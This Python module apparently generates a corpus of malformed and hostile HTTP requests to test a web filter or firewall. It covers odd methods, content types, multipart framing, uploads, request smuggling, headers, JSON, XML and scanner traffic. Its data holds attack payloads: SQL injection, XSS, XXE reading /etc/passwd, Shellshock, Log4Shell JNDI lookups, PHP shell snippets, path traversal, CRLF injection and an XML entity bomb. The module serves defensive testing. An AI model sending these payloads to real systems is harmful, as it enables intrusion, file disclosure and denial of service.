"""Whole requests that are odd: protocol, framing, Content-Types, multipart, uploads, scanners, leaks."""

import json
from collections.abc import Iterator
from pathlib import Path

from tests.attacks.corpus.places import BOUNDARY, FORM, chunked, multipart, part, post, request

SQL, SCRIPT = "1' UNION SELECT password FROM users--", "<script>alert(1)</script>"
LISTS = Path(__file__).parent / "lists"
METHODS = [
    "HEAD",
    "OPTIONS",
    "PUT",
    "PATCH",
    "DELETE",
    "TRACE",
    "CONNECT",
    "PROPFIND",
    "PROPPATCH",
    "MKCOL",
    "COPY",
    "MOVE",
    "LOCK",
    "UNLOCK",
    "SEARCH",
    "DEBUG",
    "TRACK",
    "PURGE",
    "REPORT",
    "BREW",
    "get",
    "GETS",
    "G3T",
]
CHARSETS = [
    "utf-7",
    "utf-16",
    "utf-16le",
    "ibm037",
    "ibm500",
    "cp037",
    "shift_jis",
    "iso-2022-jp",
    "windows-1251",
    "x",
    "utf-8;charset=utf-7",
]
TYPES = ["application/json;charset=utf-8", "application/json; charset=ibm037", "APPLICATION/JSON", "application/JSON;", "application/json, text/plain", "text/json", "application/vnd.api+json", "application/ld+json", "application/merge-patch+json", "application/json-patch+json", "application/csp-report", "application/graphql", "application/x-json", "text/xml", "TEXT/XML", "application/xml;charset=utf-16", "application/soap+xml", "application/xhtml+xml", "image/svg+xml", "text/html", "text/plain", "*/*", "application/octet-stream", "application/x-www-form-urlencoded;", "application/x-www-form-urlencoded, application/json", "application/x-www-form-urlencoded;charset=ibm037", "application/x-www-form-urlencode", "application/x-java-serialized-object", "application/x-php-serialized", "multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data;boundary=a;boundary=b", "multipart/x", "text/xml; boundary=x", "x", ";", "/", "form", "application", "application/x-httpd-php", "application/yaml", "text/yaml", "application/msgpack", "application/grpc", "application/x-amf", "text/x-gwt-rpc", "application/cloudevents+json", "application/cloudevents-batch+json", "application/xml-dtd", "application/json\t", '"application/json"', "application/json;x=y", "application/json; boundary=a; charset=utf-8; charset=utf-7"]  # fmt: skip
NAMES = [
    "a.php",
    "a.php.",
    "a.PHP",
    "a.php5",
    "a.phtml",
    "a.php.jpg",
    ".htaccess",
    ".htpasswd",
    "web.config",
    "wp-config.php",
    ".env",
    "a.jsp",
    "a.asp",
    "a.aspx",
    "a.phar",
    "a.sh",
    "it's mine.jpg",
    'a\\".php',
    "a=b.jpg",
    "a;b.jpg",
    "a&amp;b.jpg",
    "../../a.php",
    "..\\\\a.php",
    "a.php%00.jpg",
    "a.svg",
    "a.html",
    "config.yml",
    "settings.php",
    "() { :;}; id",
    "<script>alert(1)</script>.png",
    "a.php::$DATA",
    "a.php/",
    "yarn.lock",
]
BODIES = {
    "sql form": f"q={SQL}",
    "script form": f"q={SCRIPT}",
    "script json": json.dumps({"q": SCRIPT}),
    "sql json": json.dumps({"q": SQL}),
    "xml": f"<a>{SCRIPT.replace('<', '&lt;')}</a>",
    "xxe": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
}


def requests() -> Iterator[tuple[str, str, bytes]]:
    """(class, name, request)."""
    for kind, made in {
        "methods": _methods, "content types": _types, "multipart": _multipart, "uploads": _uploads,
        "framing": _framing, "headers": _headers, "many": _many, "json": _json, "urls": _urls,
        "scanners": _scanners, "leaks": _leaks, "broken bodies": _broken,
    }.items():  # fmt: skip
        yield from ((kind, name, raw) for name, raw in made())


def _methods() -> Iterator[tuple[str, bytes]]:
    for method in METHODS:
        yield method, request("/", method=method)
        yield f"{method} {SQL}", request(f"/?q={SQL.replace(' ', '+')}", method=method)
    yield "override", request("/", headers={"X-HTTP-Method-Override": "DELETE"})
    yield "connect", request("evil.example:80", method="CONNECT")
    yield "options *", request("*", method="OPTIONS")


def _types() -> Iterator[tuple[str, bytes]]:
    for kind in TYPES:
        for name, body in BODIES.items():
            yield f"{kind}: {name}", post(kind, body)
    for charset in CHARSETS:
        for kind in (FORM, "application/json", "text/xml"):
            yield f"{kind} in {charset}", post(f"{kind}; charset={charset}", BODIES["sql form"])
    for name, body in BODIES.items():
        yield f"none: {name}", post("", body)
        yield (
            f"empty: {name}",
            request("/", method="POST", headers={"Content-Type": ""}, body=body.encode()),
        )
        yield f"none, put: {name}", post("", body, method="PUT")
        two = "application/json\r\nContent-Type: " + FORM
        yield f"two: {name}", post(two, body)
        yield f"two, turned: {name}", post(f"{FORM}\r\nContent-Type: application/json", body)
        yield f"get: {name}", post(FORM, body, method="GET")
        yield f"encoded: {name}", post(FORM + "\r\nContent-Encoding: gzip", body)
    yield "utf-16", post(f"{FORM}; charset=utf-16", f"q={SCRIPT}".encode("utf-16"))
    yield "ibm037", post(f"{FORM}; charset=ibm037", f"q={SCRIPT}".encode("cp037"))


def _raw(body: str, head: str = f"multipart/form-data; boundary={BOUNDARY}") -> bytes:
    return post(
        head, body.replace("\n", "\r\n").replace("B", BOUNDARY) if BOUNDARY in head else body
    )


def _multipart() -> Iterator[tuple[str, bytes]]:
    field = 'Content-Disposition: form-data; name="q"'
    for text in (SQL, SCRIPT, "x"):
        good = f"--B\n{field}\n\n{text}\n--B--\n"
        yield f"good {text}", _raw(good)
        for name, body in {
            "no end": f"--B\n{field}\n\n{text}\n",
            "cut": f"--B\n{field}\n\n{text}",
            "before": f"hello\n{good}",
            "after": f"{good}hello\n",
            "no name": f"--B\nContent-Disposition: form-data\n\n{text}\n--B--\n",
            "no disposition": f"--B\nX: y\n\n{text}\n--B--\n",
            "no headers": f"--B\n\n{text}\n--B--\n",
            "folded": f'--B\nContent-Disposition: form-data;\n name="q"\n\n{text}\n--B--\n',
            "single quotes": f"--B\nContent-Disposition: form-data; name='q'\n\n{text}\n--B--\n",
            "unquoted": f"--B\nContent-Disposition: form-data; name=q\n\n{text}\n--B--\n",
            "no semicolon": f'--B\nContent-Disposition: form-data name="q"\n\n{text}\n--B--\n',
            "two names": f'--B\n{field}; name="r"\n\n{text}\n--B--\n',
            "file and name": f'--B\n{field}; filename="a"; filename="b.php"\n\n{text}\n--B--\n',
            "star": f"--B\n{field}; filename*=UTF-8''a.php\n\n{text}\n--B--\n",
            "part of a part": f"--B\n{field}\n\n--C\n{field}\n\n{text}\n--C--\n--B--\n",
            "unmatched": f"--B\n{field}\n\nx\n--Bx\n{field}\n\n{text}\n--B--\n",
            "dashes": f"--B\n{field}\n\n--other\n{text}\n--B--\n",
            "dashes only": f"--B\n{field}\n\n----\n{text}\n--B--\n",
            "attachment": f'--B\nContent-Disposition: attachment; name="q"\n\n{text}\n--B--\n',
            "transfer": f"--B\n{field}\nContent-Transfer-Encoding: base64\n\n{text}\n--B--\n",
            "quoted-printable": f"--B\n{field}\nContent-Transfer-Encoding: quoted-printable\n\n{text}\n--B--\n",
            "charset": f"--B\n{field}\nContent-Type: text/plain; charset=utf-7\n\n{text}\n--B--\n",
            "_charset_": f'--B\nContent-Disposition: form-data; name="_charset_"\n\nutf-7\n{good}',
            "null": f'--B\nContent-Disposition: form-data; name="q\0"\n\n{text}\n--B--\n',
            "blank in header": f'--B\nContent-Disposition : form-data; name="q"\n\n{text}\n--B--\n',
            "two dispositions": f"--B\n{field}\n{field}\n\n{text}\n--B--\n",
            "long header": f"--B\n{field}\nX: {'y' * 5000}\n\n{text}\n--B--\n",
            "last first": f"--B--\n--B\n{field}\n\n{text}\n--B--\n",
            "empty": "",
            "only end": "--B--\n",
        }.items():
            yield f"{name} {text}", _raw(body)
        yield (
            f"line feeds {text}",
            post(f"multipart/form-data; boundary={BOUNDARY}", good.replace("B", BOUNDARY)),
        )
        for name, head in {
            "quoted": 'multipart/form-data; boundary="{}"', "half quoted": 'multipart/form-data; boundary="{}',
            "single": "multipart/form-data; boundary='{}'", "blank": "multipart/form-data; boundary= {}",
            "blank end": "multipart/form-data; boundary={} ", "case": "multipart/form-data; BOUNDARY={}",
            "big": "Multipart/Form-Data; boundary={}", "comma": "multipart/form-data, boundary={}",
            "charset": "multipart/form-data; charset=utf-8; boundary={}", "other": "multipart/form-data; boundary=x{}",
            "two": "multipart/form-data; boundary=x; boundary={}", "two turned": "multipart/form-data; boundary={}; boundary=x",
            "colon": "multipart/form-data: boundary={}", "none": "multipart/form-data", "long": "multipart/form-data; boundary={}" + "a" * 80,
            "star": "multipart/form-data; boundary*0={}", "mixed": "multipart/mixed; boundary={}", "tab": "multipart/form-data;\tboundary={}",
        }.items():  # fmt: skip
            sent = good.replace("\n", "\r\n").replace("B", BOUNDARY).encode()
            yield f"boundary {name} {text}", post(head.format(BOUNDARY), sent)
        for name, line in {
            "quoted": '--"B"',
            "half": '--"B',
            "blank": "-- B",
            "longer": "--Bx",
            "dashes": "----B",
            "shorter": "--" + "-" * 10,
        }.items():
            inside = f"--B\n{field}\n\nx\n{line}\n{field}\n\n{text}\n--B--\n".replace("\n", "\r\n")
            for mark in (BOUNDARY, "abc", "--abc"):
                for head in ("{}", '"{}"'):
                    kind = f"multipart/form-data; boundary={head.format(mark)}"
                    yield f"line {name} {mark} {head} {text}", post(kind, inside.replace("B", mark))


def _uploads() -> Iterator[tuple[str, bytes]]:
    for name in NAMES:
        yield name, multipart(part("f", "x", file=name, kind="application/octet-stream"))
        yield f"header {name}", post(FORM + f"\r\nX-Filename: {name}", "a=1")
        yield f"header too {name}", post(FORM + f"\r\nX-File-Name: {name}", "a=1")
    for field in (SQL, "a'b", "a=b", "f;g", 'f\\"g', "__proto__", "() { :;}; id"):
        yield f"field {field}", multipart(part(field, "x", file="a.txt", kind="text/plain"))
    for content in (
        "<?php system(1);",
        SCRIPT,
        "GIF89a<?php",
        "#!/bin/sh\nid",
        "<svg onload=alert(1)>",
    ):
        yield f"content {content}", multipart(part("f", content, file="a.jpg", kind="image/jpeg"))


def _framing() -> Iterator[tuple[str, bytes]]:
    form = f"q={SCRIPT}"
    for name, head in {
        "both lengths": "Content-Length: 5\r\nTransfer-Encoding: chunked",
        "two lengths": f"Content-Length: 3\r\nContent-Length: {len(form)}",
        "same lengths": f"Content-Length: {len(form)}\r\nContent-Length: {len(form)}",
        "list of lengths": f"Content-Length: {len(form)}, {len(form)}", "signed": f"Content-Length: +{len(form)}",
        "hex": "Content-Length: 0x10", "negative": "Content-Length: -1", "words": "Content-Length: ten",
        "blank": f"Content-Length : {len(form)}", "folded": f"X: y\r\n z\r\nContent-Length: {len(form)}",
        "identity": f"Transfer-Encoding: identity\r\nContent-Length: {len(form)}", "gzip": "Transfer-Encoding: gzip, chunked",
        "two codings": "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "xchunked": "Transfer-Encoding: xchunked",
        "tab": "Transfer-Encoding:\tchunked", "vertical tab": "Transfer-Encoding: \x0bchunked", "quoted": 'Transfer-Encoding: "chunked"',
        "no length": "X: y",
    }.items():  # fmt: skip
        for method in ("POST", "GET"):
            text = (
                f"{method} /save HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: x\r\nAccept: */*\r\n"
            )
            chunk = f"{len(form):x}\r\n{form}\r\n0\r\n\r\n" if "codin" in head.lower() else form
            yield (
                f"{method} {name}",
                f"{text}Content-Type: {FORM}\r\n{head}\r\n\r\n{chunk}".encode(),
            )
    for size in (1, 3, 1000):
        yield f"chunks of {size}", chunked(FORM, form.encode(), size)
    wire = chunked(FORM, form.encode(), 100)
    yield "chunk extension", wire.replace(b"\r\nq=", b";a=b\r\nq=")
    yield "chunk trailer", wire[:-2] + b"X-Trailer: <script>\r\n\r\n"
    yield "chunk of bad size", wire.replace(b"\r\nq=", b"zz\r\nq=")
    yield "line feeds only", request(f"/?q={SCRIPT}").replace(b"\r\n", b"\n")
    for version in (
        "HTTP/0.9",
        "HTTP/1.0",
        "HTTP/1.2",
        "HTTP/2.0",
        "HTTP/3",
        "HTTP/9.9",
        "JUNK/1.0",
        "http/1.1",
        "",
    ):
        yield f"version {version}", request("/").replace(b"HTTP/1.1", version.encode(), 1)
        yield (
            f"version {version} attack",
            request("/?q=%3Cscript%3Ealert(1)%3C/script%3E").replace(
                b"HTTP/1.1", version.encode(), 1
            ),
        )
    yield "smuggled", request("/", headers={"X": "y\r\n\r\nGET /admin HTTP/1.1\r\nHost: a"})
    yield "early hint", post(FORM + "\r\nExpect: 100-continue", form)
    yield "odd expectation", post(FORM + "\r\nExpect: 200-ok", form)


def _headers() -> Iterator[tuple[str, bytes]]:
    for name, value in {
        "Host": "127.0.0.1", "Accept": "", "User-Agent": "", "Connection": "keep-alive, close", "Range": "bytes=9-1",
        "Request-Range": "bytes=9-1", "Proxy": "evil.example", "Lock-Token": "x", "Content-Range": "bytes 0-1/2",
        "If": "x", "Accept-Charset": "utf-7", "Content-Encoding": "gzip", "X-Ratproxy-Loop": "1", "X-Scanner": "1",
        "Acunetix-Product": "x", "Authorization": "Basic () { :;}; id", "X-Forwarded-Host": "evil.example<script>",
        "Accept-Language": "../../../etc/passwd", "Accept-Encoding": "() { :;}; id", "Upgrade": "h2c", "Via": SCRIPT,
        "X-Original-URL": "/admin/../../etc/passwd", "X-Rewrite-URL": "/../../etc/passwd", "Forwarded": "for=() { :;}; id",
        "X-HTTP-Method-Override": "../../etc/passwd", "Client-IP": "../../etc/passwd", "X-Forwarded-Proto": "../../etc/passwd",
        "X-Forwarded-Port": "../../etc/passwd", "X-Request-ID": "../../etc/passwd", "X_Filename": "a.php", "X.Filename": "a.php",
        "True-Client-IP": "../../etc/passwd", "X-Client-IP": "${jndi:ldap://e/a}", "Origin": "${jndi:ldap://e/a}", "Cookie": "$Version=1; a=${jndi:ldap://e/a}",
    }.items():  # fmt: skip
        yield f"{name}: {value}", request("/", headers={name: value})
        yield f"post {name}: {value}", post(f"{FORM}\r\n{name}: {value}", "a=1")
        yield (
            f"numbered host, {name}: {value}",
            request("/", headers={"Host": "10.0.0.1", name: value}),
        )
    for line in (b"Host: shop.example\r\n", b"User-Agent: ", b"Accept: */*\r\n"):
        lines = request("/").split(b"\r\n")
        kept = [one for one in lines if not one.startswith(line.rstrip())]
        yield f"without {line.decode().strip()}", b"\r\n".join(kept)
    numbered = request("/", headers={"Host": "10.0.0.1", "User-Agent": "", "Accept": ""})
    yield "three faults", numbered
    yield "two hosts", request("/", headers={"X": "y\r\nHost: evil.example"})
    yield "two cookies", request("/", headers={"Cookie": f"a=1\r\nCookie: b={SCRIPT}"})
    yield "two agents", request("/", headers={"User-Agent": "x\r\nUser-Agent: sqlmap/1.0"})
    yield "many headers", request("/", headers={f"X-{i}": "y" for i in range(95)})
    yield "long header", request("/", headers={"X-Long": "y" * 7000 + "../../etc/passwd"})
    yield "long cookie", request("/", headers={"Cookie": "a=" + "y" * 7000 + SCRIPT})
    yield (
        "cookie bomb",
        request(
            "/", headers={"Cookie": "; ".join([*(f"a{i}=1" for i in range(400)), f"b={SCRIPT}"])}
        ),
    )
    yield "comma cookies", request("/", headers={"Cookie": f"a=1, b={SCRIPT}"})
    yield (
        "quoted cookie",
        request("/", headers={"Cookie": 'a="1; b=%3Cscript%3Ealert(1)%3C/script%3E"'}),
    )
    yield "null in header", request("/", headers={"X-Custom": "a\0b"})
    yield "latin in header", request("/", headers={"X-Custom": b"\xe9\xff"})


def _many() -> Iterator[tuple[str, bytes]]:
    for count in (255, 999, 1000, 1001, 1500, 3000):
        few = "&".join(f"a{i}=1" for i in range(count))
        for name, text in {
            "nothing": "x",
            "sql": "1'+UNION+SELECT+1,2--",
            "script": "%3Cscript%3E",
        }.items():
            yield f"form {count} {name}", post(FORM, f"{few}&q={text}")
            yield (
                f"json {count} {name}",
                post("application/json", json.dumps([*range(count), text])),
            )
            yield (
                f"object {count} {name}",
                post(
                    "application/json",
                    json.dumps({**{f"a{i}": 1 for i in range(count)}, "q": text}),
                ),
            )
            yield (
                f"parts {count} {name}",
                multipart(
                    *(part("a", "1") for _ in range(count)), part("q", text.replace("+", " "))
                ),
            )
            yield (
                f"xml {count} {name}",
                post(
                    "text/xml",
                    "<a>"
                    + "<b/>" * count
                    + f"<c>{text.replace('+', ' ').replace('%3C', '&lt;')}</c></a>",
                ),
            )
            if count < 2000:
                yield (
                    f"query {count} {name}",
                    request(f"/?{'&'.join('a=1' for _ in range(count))}&q={text}"),
                )
            yield (
                f"both {count} {name}",
                request(
                    f"/?{few[:4000]}",
                    method="POST",
                    headers={"Content-Type": FORM},
                    body=f"{few}&q={text}".encode(),
                ),
            )
    for size in (1000, 8000, 140_000):
        yield f"one of {size}", post(FORM, f"q={'a' * size}%3Cscript%3Ealert(1)")
        yield f"json of {size}", post("application/json", json.dumps({"q": "a" * size + SCRIPT}))
        yield (
            f"file of {size}",
            multipart(part("f", "a" * size, file="a.txt", kind="text/plain"), part("q", SCRIPT)),
        )
    for size in (300, 1000, 2000):
        yield f"quotes {size}", post(FORM, f"q={'%27' * (size // 3)}")
        yield f"words {size}", post(FORM, f"q={'select+' * (size // 7)}")
        yield f"brackets {size}", post(FORM, f"q={'((' * (size // 2)}")
        yield f"angles {size}", post(FORM, f"q={'%3C' * (size // 3)}a")
        yield f"blanks {size}", post(FORM, f"q=union{'+' * size}select+1+from+a")


def _json() -> Iterator[tuple[str, bytes]]:
    kind = "application/json"
    for depth in (50, 511, 512, 513, 3000):
        yield f"depth {depth}", post(kind, "[" * depth + f'"{SCRIPT}"' + "]" * depth)
    for name, body in {
        "same keys": f'{{"q": 1, "q": "{SCRIPT}"}}', "turned keys": f'{{"q": "{SCRIPT}", "q": 1}}', "comment": f'/* */{{"q": "{SCRIPT}"}}',
        "single quotes": f"{{'q': '{SCRIPT}'}}", "trailing": f'{{"q": "{SCRIPT}",}}', "cut": f'{{"q": "{SCRIPT}"', "two": f'{{}}{{"q": "{SCRIPT}"}}',
        "mark": f'\ufeff{{"q": "{SCRIPT}"}}', "number": "1e999999", "nothing": "", "blank": " ", "word": "select", "null": "\0", "constant": "NaN",
        "callback": f'x({{"q": "{SCRIPT}"}})', "lone surrogate": '{"q": "\\ud800<script>alert(1)</script>"}', "null inside": '{"q": "\\u0000<script>alert(1)"}',
        "escaped key": '{"\\u003cscript\\u003ealert(1)": 1}', "operator": '{"user": {"$ne": null}, "pass": {"$gt": ""}}', "prototype": '{"__proto__": {"x": 1}}',
        "batch": json.dumps([{"query": "{a}"}] * 200), "deep query": json.dumps({"query": "{a" * 100 + "}" * 100}), "introspection": json.dumps({"query": "{__schema{types{name}}}"}),
        "alias": json.dumps({"query": "{" + " ".join(f"a{i}:login" for i in range(500)) + "}"}), "form": "q=%3Cscript%3Ealert(1)", "xml": "<a>x</a>",
    }.items():  # fmt: skip
        yield name, post(kind, body)
        yield f"put {name}", post(kind, body, method="PUT")


def _urls() -> Iterator[tuple[str, bytes]]:
    lines = (LISTS / "urls.txt").read_text().split()
    for line in lines:
        yield line, request(line)
        yield f"kept {line}", request("/static" + line)
        yield f"public {line}", request("/media" + line)
    for byte in (0, 1, 9, 11, 12, 127, 128, 255):
        yield f"byte {byte} raw", request(b"/a" + bytes([byte]) + b"b")
        yield f"byte {byte}", request(f"/a%{byte:02x}b?q=%{byte:02x}")


def _scanners() -> Iterator[tuple[str, bytes]]:
    for agent in (LISTS / "agents.txt").read_text().splitlines():
        yield agent, request("/", headers={"User-Agent": agent})
        yield f"kept {agent}", request("/static/app.js", headers={"User-Agent": agent})


def _leaks() -> Iterator[tuple[str, bytes]]:
    for name in (LISTS / "leaks.txt").read_text().split():
        for prefix in ("/", "/shop/", "/static/", "/media/", "//", "/./", "/static/../"):
            yield prefix + name, request(prefix + name)
        yield f"query {name}", request(f"/?file={name}")


def _broken() -> Iterator[tuple[str, bytes]]:
    for name, body in {
        "half percent": "q=%", "bad percent": "q=%zz%3Cscript%3E", "no name": f"={SCRIPT}", "only": SCRIPT, "semicolons": f"a=1;q={SCRIPT}",
        "null": "a=1\0&q=1", "null percent": "a=%00", "line ends": f"a=1\r\nq={SCRIPT}", "plus": "q=union+select+1+from+a", "amps": f"&&&q={SCRIPT}",
        "twice": "q=%253Cscript%253Ealert(1)%253C/script%253E", "wide": "q=%uff1cscript%uff1ealert(1)", "half wide": "a=%uff41", "high": b"q=\xbcscript\xbealert(1)".decode("latin-1"),
        "brackets": "q[a][b][]=1'+UNION+SELECT+1--", "same": "q=1'+UNION&q=SELECT+1--", "http": "q=1%0d%0aSet-Cookie:a=b",
    }.items():  # fmt: skip
        yield name, post(FORM, body)
        yield f"of no kind {name}", post("", body)
        yield f"xml {name}", post("text/xml", body)
    xml: dict[str, str | bytes] = {
        "cut": "<a>", "two roots": "<a/><b/>", "text": "hello", "nothing": "", "utf-16": "<a/>".encode("utf-16"), "bad entity": "<a>&x;</a>",
        "bomb": '<!DOCTYPE a [<!ENTITY b "xxxxxxxxxx">' + "".join(f'<!ENTITY b{i} "&b;&b;&b;&b;&b;">' for i in range(9)) + "]><a>&b8;</a>",
        "script": f"<a>{SCRIPT}</a>", "data": f"<a><![CDATA[{SCRIPT}]]></a>", "comment": f"<a><!--{SCRIPT}--></a>", "attribute": "<a b=\"1' UNION SELECT 1 FROM a--\"/>",
        "name": "<script>alert(1)</script>", "instruction": "<?php system('id'); ?><a/>", "deep": "<a>" * 300 + "1' UNION SELECT 1 FROM a--" + "</a>" * 300,
    }  # fmt: skip
    for name, text in xml.items():
        for kind in ("text/xml", "application/xml", "application/soap+xml", ""):
            yield f"{kind} {name}", post(kind, text)
